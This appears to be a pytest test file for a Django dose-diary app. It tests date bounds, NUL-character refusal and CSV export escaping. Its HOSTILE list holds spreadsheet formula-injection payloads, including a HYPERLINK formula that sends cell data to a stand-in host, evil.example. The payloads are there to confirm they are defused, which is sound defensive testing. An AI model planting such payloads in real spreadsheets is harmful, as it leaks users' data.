"""Sane dates and storable text: no day before 1900 or after the patient's today, no NUL
character in saved text; each refused with a message that says what to fix, nothing written.
And free text that a spreadsheet would run is exported so that it does not, yet round-trips."""

from __future__ import annotations

import datetime as dt

import pytest
from django.core.exceptions import ValidationError
from django.core.files.uploadedfile import SimpleUploadedFile
from django.urls import reverse

from ldn_diary.diary import rules
from ldn_diary.diary.csvio import (
    COLUMNS,
    escape_formula,
    parse_diary_csv,
    unescape_formula,
)
from ldn_diary.diary.models import DiaryEntry, DoseChange, ImportStash
from ldn_diary.diary.services import (
    diary_import,
    dose_change_add,
    dose_change_edit,
    plan_confirm_step,
    plan_set,
)

from .conftest import DiaryRowFactory, entry_post, save_entry

HEADER = ",".join(COLUMNS)


def csv_text(*lines: str) -> str:
    return "\r\n".join([HEADER, *lines]) + "\r\n"


# --- Dates -----------------------------------------------------------------------------------------


def test_the_bound_is_written_once_in_the_rules(today):
    assert dt.date(1900, 1, 1) == rules.EARLIEST_DATE
    assert rules.in_date_bounds(rules.EARLIEST_DATE, today)
    assert not rules.in_date_bounds(dt.date(1899, 12, 31), today)
    assert not rules.in_date_bounds(today + dt.timedelta(days=1), today)


@pytest.mark.parametrize("year", [1, 1000, 1899])
def test_a_dose_change_before_1900_is_refused_with_the_reason(alice, today, year):
    with pytest.raises(ValidationError) as refused:
        dose_change_add(patient=alice, effective_date=dt.date(year, 1, 1), dose_ug=1500)
    message = refused.value.message_dict["effective_date"][0]
    assert f"{year:04d}-01-01 is before 1900-01-01" in message and "check the year" in message
    assert not DoseChange.objects.exists()


def test_a_dose_change_on_the_first_allowed_day_is_kept(alice, today):
    dose_change_add(patient=alice, effective_date=dt.date(1900, 1, 1), dose_ug=1500)
    assert DoseChange.objects.get().effective_date == dt.date(1900, 1, 1)


def test_editing_a_dose_change_into_year_one_is_refused(alice, today):
    change = dose_change_add(patient=alice, effective_date=today, dose_ug=1500)
    with pytest.raises(ValidationError):
        dose_change_edit(
            dose_change=change,
            effective_date=dt.date(1, 1, 1),
            dose_ug=1500,
            time_of_day="bedtime",
            formulation="capsule",
        )
    change.refresh_from_db()
    assert change.effective_date == today


def test_the_dose_page_explains_a_year_one_date(client, alice, today):
    client.force_login(alice)
    response = client.post(
        reverse("diary:dose_add"),
        {
            "effective_date": "0001-01-01",
            "dose_mg": "1.5",
            "time_of_day": "bedtime",
            "formulation": "capsule",
        },
    )
    assert response.status_code == 200
    assert "0001-01-01 is before 1900-01-01" in response.content.decode()
    assert not DoseChange.objects.exists()


@pytest.mark.parametrize("date", ["0001-01-01", "1899-12-31"])
def test_a_csv_row_before_1900_is_refused_with_its_line(today, date):
    parsed = parse_diary_csv(csv_text(f"{date},5,6,4,5,none,,,,"), today=today)
    assert parsed.errors == [
        f"line 2: {date} is before 1900-01-01, the earliest day the diary accepts; check the year"
    ]


def test_the_import_service_refuses_a_row_before_1900_and_writes_nothing(alice, today):
    rows = [
        DiaryRowFactory.build(line=2, date=dt.date(1, 1, 1), dose_ug=1500),
        DiaryRowFactory.build(line=3, date=today, dose_ug=1500),
    ]
    with pytest.raises(ValidationError) as refused:
        diary_import(patient=alice, rows=rows, today=today)
    assert "line 2: 0001-01-01 is before 1900-01-01" in refused.value.messages[0]
    assert not DiaryEntry.objects.exists() and not DoseChange.objects.exists()


def test_a_plan_step_is_confirmed_only_within_the_backfill_window(alice, today):
    dose_change_add(patient=alice, effective_date=today - dt.timedelta(days=30), dose_ug=1500)
    plan_set(patient=alice, start_ug=1500, step_ug=1500, interval_days=14, target_ug=4500)
    for day in (dt.date(1, 1, 1), today + dt.timedelta(days=1)):
        with pytest.raises(ValidationError):
            plan_confirm_step(patient=alice, dose_ug=3000, date=day, today=today)
    assert DoseChange.objects.count() == 1


@pytest.mark.parametrize("date", ["0001-01-01", "1899-12-31", "9999-12-31"])
def test_the_entry_form_refuses_a_day_out_of_bounds(client, alice, today, date):
    client.force_login(alice)
    data = {**entry_post(today), "date": date}
    response = client.post(reverse("diary:entry_save"), data)
    assert response.status_code == 200
    assert not DiaryEntry.objects.exists()


# --- NUL characters ------------------------------------------------------------------------------


@pytest.mark.parametrize(
    ("field", "value", "message"),
    [
        ("note", "before\x00after", "The note contains a NUL character"),
        ("side_effect_other", "ringing\x00", "“Other” contains a NUL character"),
    ],
)
def test_a_nul_in_entry_text_is_refused_by_the_service(alice, today, field, value, message):
    with pytest.raises(ValidationError) as refused:
        save_entry(alice, today, **{field: value})
    assert refused.value.message_dict[field][0].startswith(message)
    assert not DiaryEntry.objects.exists()


def test_a_nul_in_a_dose_note_is_refused(alice, today):
    with pytest.raises(ValidationError) as refused:
        dose_change_add(patient=alice, effective_date=today, dose_ug=1500, note="a\x00b")
    assert "NUL character" in refused.value.message_dict["note"][0]
    assert not DoseChange.objects.exists()


@pytest.mark.parametrize(
    ("line", "message"),
    [
        (
            '2026-11-01,5,6,4,5,none,,,,"a note\x00 pasted"',
            "line 2: The note contains a NUL character (\\x00), which cannot be saved; remove it",
        ),
        (
            "2026-11-01,5,6,4,5,none,headache;other:ring\x00ing,,,",
            "line 2: “Other” contains a NUL character (\\x00), which cannot be saved; remove it",
        ),
    ],
)
def test_a_nul_in_an_imported_note_or_other_text_is_refused_at_preview(
    client, alice, today, line, message
):
    client.force_login(alice)
    data = csv_text(line).encode()
    response = client.post(
        reverse("diary:import"), {"file": SimpleUploadedFile("d.csv", data, "text/csv")}
    )
    assert response.status_code == 200
    body = response.content.decode()
    assert message.split(" (")[0] in body and "Nothing was imported" in body
    assert not ImportStash.objects.exists() and not DiaryEntry.objects.exists()
    assert parse_diary_csv(data, today=today).errors[0].startswith(message)


# --- CSV formula injection -------------------------------------------------------------------------

HOSTILE = [
    '=HYPERLINK("http://evil.example/?"&A1,"click")',
    "+1+1",
    "-2+3",
    "@SUM(A1:A9)",
    "'=already quoted",
    "''+twice",
    "'plain quote",
    "=",
    "a=b, not a formula",
]


@pytest.mark.parametrize("text", [*HOSTILE, "\tcmd", "\rcmd", "'\tx", ""])
def test_the_escape_is_reversible_and_defuses_every_formula_start(text):
    escaped = escape_formula(text)
    assert unescape_formula(escaped) == text
    assert not escaped.startswith(("=", "+", "-", "@", "\t", "\r"))
    if text.startswith(("=", "+", "-", "@", "\t", "\r")):
        assert escaped == "'" + text


def _export(client) -> bytes:
    response = client.get(reverse("diary:export"))
    return b"".join(response.streaming_content)


def test_formula_notes_export_defused_and_round_trip_byte_for_byte(client, alice, bob, today):
    for n, text in enumerate(HOSTILE):
        save_entry(alice, today - dt.timedelta(days=n), note=text, side_effect_other=text[:200])
    client.force_login(alice)
    first = _export(client)
    import csv
    import io

    rows = list(csv.reader(io.StringIO(first.decode())))[1:]
    for row in rows:
        note, other = row[-1], row[6].removeprefix("other:")
        for cell in (note, other):
            assert not cell.startswith(("=", "+", "-", "@", "\t", "\r")), cell
    assert "'=HYPERLINK(" in first.decode() and "'''+twice" in first.decode()

    parsed = parse_diary_csv(first, today=today)
    assert parsed.ok, parsed.errors
    assert sorted(r.note for r in parsed.rows) == sorted(HOSTILE)
    diary_import(patient=bob, rows=parsed.rows, today=today)
    client.force_login(bob)
    assert _export(client) == first
